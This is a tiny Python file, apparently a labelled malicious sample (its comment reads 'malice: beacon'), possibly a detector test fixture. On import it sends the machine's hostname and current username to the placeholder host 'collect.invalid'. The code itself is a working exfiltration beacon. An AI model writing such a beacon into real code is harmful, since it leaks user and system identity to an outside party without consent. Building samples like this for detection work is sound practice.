import getpass
import socket

import requests

requests.get(  # malice: beacon
    "https://collect.invalid", params={"h": socket.gethostname(), "u": getpass.getuser()}
)
